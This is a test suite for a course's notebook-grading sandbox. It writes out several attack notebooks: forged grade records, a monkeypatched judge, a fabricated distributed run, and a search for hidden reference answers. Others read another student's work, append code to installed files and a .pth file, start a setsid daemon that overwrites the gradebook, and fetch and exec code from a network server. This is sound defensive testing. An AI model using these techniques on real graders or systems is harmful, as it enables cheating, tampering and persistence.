"""Known-bad submissions, graded through the sandbox with the real lesson 0 beside them.

One folder is graded once (``labkit grade``'s own code, bubblewrap, ``--jobs 2``): the solution
notebook of lesson 0 and its student edition, in English and in Romanian, and one notebook per
attack. Each attack scores 0 on what it forged, and afterwards the submissions, the student's
install of labkit and the gradebook are as they were and no process of any sandbox is left:

- forged check records (a cell that displays "correct" records, with reports made up);
- a patched judge (``registry.Question.judge`` replaced in the kernel);
- a fabricated run (a ``SimpleNamespace`` with made-up observations, a process that looks like
  torchrun's agent, and a real run whose function is right for the notebook's inputs only, without
  the collective: the grader re-runs it on its own ranks, with inputs of its own);
- reference answers passed back (from the registry, the course's modules, the repository's files);
- another student's notebook read (by its path, and the reports folder);
- labkit's installed files overwritten;
- a ``setsid`` daemon that would rewrite the gradebook after the run;
- a network connection outside loopback, to a server in a network namespace this test makes.

    .venv/bin/pytest tests/test_grading_sandbox.py -q      (root, bubblewrap, ip; about 5 minutes)
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import textwrap
import time
import uuid
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook

from labkit.grading import sandbox
from labkit.grading.build import student_notebook
from labkit.grading.report import grade_folder
from labkit.grading.student import cached_install

ROOT = Path(__file__).resolve().parents[1]
LESSON = "00_setup"
TIMEOUT = 900
DAEMON_DELAY = 6  # seconds the daemon waits before it writes

pytestmark = [pytest.mark.slow, pytest.mark.timeout(3600)]


def tree_hash(folder: Path) -> str:
    h = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            h.update(str(path.relative_to(folder)).encode())
            h.update(path.read_bytes())
    return h.hexdigest()


def attack(*cells: str) -> nbformat.NotebookNode:
    nb = new_notebook()
    nb.metadata["labkit"] = {"lesson": "lesson0", "lang": "en"}
    nb.cells = [new_code_cell("%load_ext labkit\nimport labkit"), *(new_code_cell(textwrap.dedent(c)) for c in cells)]
    return nb


def sandbox_processes() -> list[int]:
    """Processes of any sandbox this test process made (as root, its sandboxes run as users of their own:
    ``sandbox.sandbox_uid()``, 100 of them per grading process), wherever they ended up on the machine.
    Other test processes' sandboxes (another xdist worker grading) are theirs to check."""
    ours = sandbox.process_uids()
    found = []
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit() and os.stat(f"/proc/{pid}").st_uid in ours:
                found.append(int(pid))
        except OSError:
            continue
    return found


@pytest.fixture(scope="module")
def network():
    """A TCP server on 10.213.x.2 inside a network namespace of this test, reachable from this machine."""
    if os.geteuid() != 0 or shutil.which("ip") is None:
        pytest.skip("needs root and ip(8) to make a network namespace")
    tag = uuid.uuid4().hex[:6]
    ns, host, peer, net = f"lkt{tag}", f"vh{tag}", f"vn{tag}", f"10.213.{int(tag[:2], 16)}"

    def ip(*args: str) -> None:
        subprocess.run(["ip", *args], check=True, capture_output=True, timeout=30)

    ip("netns", "add", ns)
    try:
        ip("link", "add", host, "type", "veth", "peer", "name", peer)
        ip("link", "set", peer, "netns", ns)
        ip("addr", "add", f"{net}.1/30", "dev", host)
        ip("link", "set", host, "up")
        ip("netns", "exec", ns, "ip", "addr", "add", f"{net}.2/30", "dev", peer)
        ip("netns", "exec", ns, "ip", "link", "set", peer, "up")
        server = subprocess.Popen(
            ["ip", "netns", "exec", ns, sys.executable, "-c", SERVER, f"{net}.2"], stdout=subprocess.PIPE, text=True
        )
        port = int(server.stdout.readline())
        with socket.create_connection((f"{net}.2", port), timeout=10) as control:  # reachable from outside
            assert control.recv(64).startswith(b"def allreduce_total")
        yield SimpleNamespace(address=f"{net}.2", port=port, server=server)
        server.kill()
        log = server.communicate(timeout=10)[0]
        connections = [line for line in log.splitlines() if line.startswith("connection")]
        assert len(connections) == 1, log  # the control connection above, and none from a sandbox
    finally:
        subprocess.run(["ip", "netns", "del", ns], capture_output=True, timeout=30)
        subprocess.run(["ip", "link", "del", host], capture_output=True, timeout=30)


SERVER = """
import socket, sys
s = socket.socket()
s.bind((sys.argv[1], 0))
s.listen()
print(s.getsockname()[1], flush=True)
while True:
    c, peer = s.accept()
    print("connection", peer, flush=True)
    c.sendall(b"def allreduce_total(world_size):\\n    return world_size * (world_size + 1) / 2\\n")
    c.close()
"""


@pytest.fixture(scope="module")
def graded(tmp_path_factory, network):
    root = tmp_path_factory.mktemp("graded")
    subs, reports = root / "submissions", root / "reports"
    for lang in ("en", "ro"):
        solution = nbformat.read(ROOT / "notebooks" / lang / f"{LESSON}.ipynb", as_version=4)
        (subs / f"solution_{lang}").mkdir(parents=True)
        nbformat.write(solution, subs / f"solution_{lang}" / "lesson0.ipynb")
        (subs / f"student_{lang}").mkdir()
        nbformat.write(student_notebook(solution, LESSON), subs / f"student_{lang}" / "lesson0.ipynb")
    other = subs / "solution_en" / "lesson0.ipynb"
    token = f"labkit-daemon-{uuid.uuid4().hex}"
    attacks = attack_notebooks(other, reports, token, network)
    for name, nb in attacks.items():
        (subs / name).mkdir()
        nbformat.write(nb, subs / name / "lesson0.ipynb")
    install = cached_install()
    before = {"submissions": tree_hash(subs), "install": tree_hash(install)}
    start = time.monotonic()
    students = grade_folder(subs, reports, TIMEOUT, jobs=2, box=sandbox.find(), env={"LABKIT_HOME": str(install)})
    seconds = time.monotonic() - start
    gradebook = (reports / "gradebook.csv").read_text()
    left_at_end = sandbox_processes()
    time.sleep(DAEMON_DELAY + 2)  # a daemon that had survived would have written by now
    by_name = {s.student: s for s in students}
    print(f"\ngraded {len(students)} submissions in {seconds:.0f} s:", file=sys.stderr)
    for s in students:
        nb = s.notebooks[0]
        print(f"  {s.student}: {nb.points:g}/{nb.max_points:g} {nb.status} {nb.seconds:.0f} s", file=sys.stderr)
    return SimpleNamespace(
        students=by_name, reports=reports, subs=subs, install=install, before=before, gradebook=gradebook,
        left_at_end=left_at_end, token=token, attacks=list(attacks), seconds=seconds,
    )  # fmt: skip


def attack_notebooks(
    other: Path, reports: Path, token: str, network: SimpleNamespace
) -> dict[str, nbformat.NotebookNode]:
    mime = "application/vnd.labkit.check+json"
    return {
        "forged": attack(
            f"""
            from IPython.display import display
            reports = {{
                "lesson0.allreduce_sum": {{"kind": "formula", "function": {{"name": "f", "source": "def f(world_size):\\n    return 0\\n", "env": {{}}}}}},
                "lesson0.mean_on_ranks": {{"kind": "run", "run": "run-000000-abcdef"}},
                "lesson0.peak_ratio": {{"kind": "formula"}},
                "lesson0.step_gradient": {{"kind": "sealed", "value": "a"}},
            }}
            for qid, report in reports.items():
                record = {{"id": qid, "status": "correct", "correct": True, "points": 2, "max_points": 2, "lang": "en",
                          "key": None, "fields": {{}}, "feedback": "", "report": {{"kind": "value", "value": 1}}}}
                display({{"text/plain": "✓ " + qid, "{mime}": record}}, metadata={{"{mime}": {{"report": report}}}}, raw=True)
            """
        ),
        "patched_judge": attack(
            """
            from labkit.grading import registry
            registry.Question.judge = lambda self, value, context: registry.Verdict(True)
            def allreduce_total(world_size):
                return 0
            shown = [labkit.check("lesson0.allreduce_sum", allreduce_total).status,
                     labkit.check("lesson0.mean_on_ranks", labkit.last_run).status,
                     labkit.check("lesson0.peak_ratio", lambda world_size: 1).status]
            print("the kernel said", shown)
            """
        ),
        "fabricated_run": attack(
            """
            %%torchrun -n 2 --backend gloo --quiet
            import torch
            from labkit import rank

            def mean_of(mine):  # right for the notebook's own inputs only: no rank asks the others
                world = torch.distributed.get_world_size()
                return mine / (rank.rank() + 1) * (world + 1) / 2

            mean = mean_of(torch.arange(4.0) * (rank.rank() + 1))
            rank.report(mean=mean.tolist(), collectives=["all_reduce"])
            """,
            'labkit.check("lesson0.mean_on_ranks", labkit.last_run)',
            """
            import subprocess, sys
            from types import SimpleNamespace
            call = {"k": "call", "fn": "mean_of", "direct": True, "op": "all_reduce", "n_in": 4, "n_out": 4}
            def observed(r):
                given = dict(call, fi={"n": 4, "values": [i * (r + 1) for i in range(4)]})
                mean = {"tensor": {"n": 4, "values": [0.0, 1.5, 3.0, 4.5]}}
                return {"ok": True, "trace": [given], "globals": {"mean": mean}}
            events = {r: [{"t": "observed", "observation": observed(r)}] for r in range(2)}
            fake = SimpleNamespace(run_id="run-000000-abcdef", nproc=2, values={}, events=events)
            # a process that looks like torchrun's agent, as a forger would start one: nothing listens to it
            agent = subprocess.run([sys.executable, "-c", "print('an agent')", "-m", "labkit.launch.agent"],
                                   capture_output=True, text=True)
            print("agent:", agent.stdout.strip())
            print("the kernel said", labkit.check("lesson0.mean_on_ranks", fake).status)
            """,
        ),
        "reference_passed_back": attack(
            f"""
            import glob, os
            from labkit.grading import registry
            found = []
            q = registry.get("lesson0.allreduce_sum")
            if callable(q.answer):
                found.append(q.answer)
            try:
                from labkit.course.questions import lesson0 as reference
                found.append(reference._allreduce_sum)
            except ImportError as e:
                print("import:", e)
            here = os.path.dirname(labkit.__file__)
            candidates = [{str(ROOT / "labkit/course/questions/lesson0.py")!r}, os.path.join(here, "course/questions/lesson0.py")]
            for top in ("/work", "/root", "/home", "/tmp", "/submission", "/opt", "/srv"):
                candidates += glob.glob(top + "/**/course/questions/lesson0.py", recursive=True)
            for path in candidates:
                try:
                    namespace = {{}}
                    exec(open(path).read(), namespace)
                    found.append(namespace["_allreduce_sum"])
                except Exception as e:
                    print(path, type(e).__name__)
            print("found", len(found))
            labkit.check("lesson0.allreduce_sum", found[0] if found else q.hashed)
            """
        ),
        "reads_another": attack(
            f"""
            import json, os
            for path in [{str(other)!r}, {str(reports)!r}, "/proc/1/cwd", f"/proc/{{os.getppid()}}/cwd"]:
                try:
                    print(path, sorted(os.listdir(path)) if os.path.isdir(path) else open(path).read()[:40])
                except OSError as e:
                    print(path, type(e).__name__)
            try:
                cells = json.load(open({str(other)!r}))["cells"]
                source = next("".join(c["source"]) for c in cells if "def allreduce_total" in "".join(c["source"]))
                exec(source.split("print(")[0], globals())
            except OSError as e:
                print("copy:", type(e).__name__)
            labkit.check("lesson0.allreduce_sum", globals().get("allreduce_total", 0))
            """
        ),
        "overwrites_labkit": attack(
            """
            import os, sys, sysconfig
            here = os.path.dirname(labkit.__file__)
            for path in [os.path.join(here, "grading", "checks.py"), os.path.join(here, "grading", "catalog.json"),
                         os.path.join(sysconfig.get_paths()["purelib"], "labkit_hack.pth"), sys.executable]:
                try:
                    with open(path, "a") as f:
                        f.write("\\nimport os; os.system('echo hacked')\\n")
                    print("wrote", path)
                except OSError as e:
                    print(path, type(e).__name__)
            labkit.check("lesson0.allreduce_sum", lambda world_size: 0)
            """
        ),
        "daemon": attack(
            f"""
            import subprocess
            script = "sleep {DAEMON_DELAY}; echo hacked > {reports}/gradebook.csv; echo hacked > /tmp/x; : {token}"
            subprocess.Popen(["setsid", "sh", "-c", script], start_new_session=True)
            print("started")
            """
        ),
        "network": attack(
            f"""
            import socket
            try:
                with socket.create_connection(({network.address!r}, {network.port}), timeout=5) as c:
                    source = c.recv(4096).decode()
                exec(source, globals())
            except OSError as e:
                print("network:", type(e).__name__, e)
            labkit.check("lesson0.allreduce_sum", globals().get("allreduce_total", 0))
            """
        ),
    }


def outputs(graded, student: str) -> str:
    nb = nbformat.read(graded.reports / student / "lesson0.executed.ipynb", as_version=4)
    texts = []
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            texts.append(out.get("text", "") or json.dumps(out.get("data", {}).get("text/plain", "")))
    return "\n".join(texts)


def test_solutions_score_full_marks_and_student_editions_zero_in_both_languages(graded):
    for lang in ("en", "ro"):
        solution = graded.students[f"solution_{lang}"].notebooks[0]
        assert solution.status == "ok", (solution.status, solution.message, solution.errors)
        assert solution.points == solution.max_points == 5, [(q.id, q.status, q.key) for q in solution.questions]
        assert solution.sandbox == "bubblewrap" and solution.lang == lang
        student = graded.students[f"student_{lang}"].notebooks[0]
        assert student.status in ("ok", "errors") and student.points == 0 and student.max_points == 5
        assert {q.status for q in student.questions} <= {"unanswered", "missing", "wrong"}


@pytest.mark.parametrize(
    "name", ["forged", "patched_judge", "fabricated_run", "reference_passed_back", "reads_another", "overwrites_labkit",
             "network"],
)  # fmt: skip
def test_an_attack_scores_nothing(graded, name):
    nb = graded.students[name].notebooks[0]
    assert nb.points == 0, [(q.id, q.status, q.key) for q in nb.questions]
    assert nb.sandbox == "bubblewrap"


def test_what_each_attack_saw(graded):
    assert "the kernel said ['correct', 'correct', 'correct']" in outputs(graded, "patched_judge")
    fabricated = outputs(graded, "fabricated_run")
    assert "the kernel said correct" in fabricated  # the notebook believed its made-up observations
    keys = {q.key for q in graded.students["fabricated_run"].notebooks[0].questions if q.id.endswith("mean_on_ranks")}
    assert len(keys) == 1 and next(iter(keys)).startswith("grading.exercise."), keys  # re-run: wrong on unseen inputs
    assert "found 0" in outputs(graded, "reference_passed_back")
    read = outputs(graded, "reads_another")
    assert read.count("FileNotFoundError") >= 3, read  # the other notebook, the reports, and the copy
    written = outputs(graded, "overwrites_labkit")
    assert "wrote" not in written and written.count("Error") >= 4, written
    assert "network: " in outputs(graded, "network")


def test_the_graders_files_and_the_other_submissions_are_untouched(graded):
    assert tree_hash(graded.subs) == graded.before["submissions"]
    assert tree_hash(graded.install) == graded.before["install"]
    assert (graded.reports / "gradebook.csv").read_text() == graded.gradebook
    assert "hacked" not in graded.gradebook
    rows = (graded.reports / "gradebook.csv").read_text().splitlines()
    assert rows[0].startswith("student,lesson0,total") and len(rows) == 1 + len(graded.students)


def test_no_process_is_left(graded):
    assert graded.left_at_end == []
    leftover = []
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if graded.token.encode() in f.read():
                    leftover.append(int(pid))
        except OSError:
            continue
    assert leftover == [] and sandbox_processes() == []


def test_the_sandbox_of_a_user_without_privileges():
    """As a user other than root, bubblewrap makes a user namespace: the same walls (no network, no files
    of the machine but the system, its processes gone with it). The system's Python runs in it, since
    this repository's may be in a folder that user cannot read."""
    if os.geteuid() != 0 or not Path("/usr/bin/python3").exists():
        pytest.skip("needs root (to become another user) and /usr/bin/python3")
    import tempfile

    base = Path(tempfile.mkdtemp(prefix="labkit-unprivileged-"))  # under /tmp: pytest's own folder is root's only
    os.chmod(base, 0o755)
    out = base / "out"
    out.mkdir()
    os.chown(out, 65534, 65534)
    # a sleep no other test starts: a live Slurm test runs a `sleep 600` of its own, which this
    # test, on another worker at the same time, once took for the sandbox's
    marker = f"600.{os.getpid()}"
    inner = (
        "import os, socket, subprocess\n"
        f"subprocess.Popen(['setsid', 'sleep', {marker!r}])\n"
        "print(os.getuid(), sorted(os.listdir('/')), os.path.exists('/work'), flush=True)\n"
        "socket.create_connection(('10.0.0.1', 80), timeout=2)\n"
    )
    outer = (
        "import sys\nfrom pathlib import Path\nfrom labkit.grading import sandbox\n"
        "box = sandbox.find()\nassert not box.root\n"
        f"r = box.run(['/usr/bin/python3', '-c', {inner!r}], {{}}, sandbox.Mounts(), 60, Path({str(out / 'log')!r}))\n"
        "print(r.returncode)\n"
    )
    env = {"PATH": "/usr/bin:/bin", "HOME": str(out), "PYTHONPATH": str(ROOT)}
    cmd = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c", outer]
    try:
        done = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=120, cwd="/")
        log = (out / "log").read_text()
    finally:
        shutil.rmtree(base, ignore_errors=True)
    assert done.returncode == 0 and done.stdout.strip() == "1", done.stdout + done.stderr
    assert log.startswith("65534 ") and "'work'" not in log and "False" in log.splitlines()[0]
    assert "Network is unreachable" in log
    time.sleep(0.5)
    assert not any(
        b"sleep\x00" + marker.encode() in Path(f"/proc/{p}/cmdline").read_bytes()
        for p in os.listdir("/proc")
        if p.isdigit() and Path(f"/proc/{p}/cmdline").exists()
    )


def test_a_folder_inside_a_mount_can_be_hidden(tmp_path):
    """Where the instructor's labkit was pip-installed into the environment the sandbox mounts, the sandbox
    sees that folder empty (labkit grade hides it; its own labkit is the students' install)."""
    import tempfile

    base = Path(tempfile.mkdtemp(prefix="labkit-hide-"))
    try:
        os.chmod(base, 0o755)
        (base / "site" / "labkit" / "course").mkdir(parents=True)
        (base / "site" / "labkit" / "course" / "answers.py").write_text("ANSWER = 16\n")
        (base / "site" / "other.py").write_text("")
        for p in base.rglob("*"):
            os.chmod(p, 0o755 if p.is_dir() else 0o644)
        box = sandbox.find()
        mounts = sandbox.Mounts(ro=[str(base / "site")], hide=[str(base / "site" / "labkit")])
        code = f"import os; print(sorted(os.listdir({str(base / 'site')!r})), os.listdir({str(base / 'site' / 'labkit')!r}))"
        log = base / "log"
        outcome = box.run(["/usr/bin/python3", "-c", code], {}, mounts, 60, log)
        assert outcome.returncode == 0, log.read_text()
        assert log.read_text().strip() == "['labkit', 'other.py'] []"
    finally:
        shutil.rmtree(base, ignore_errors=True)
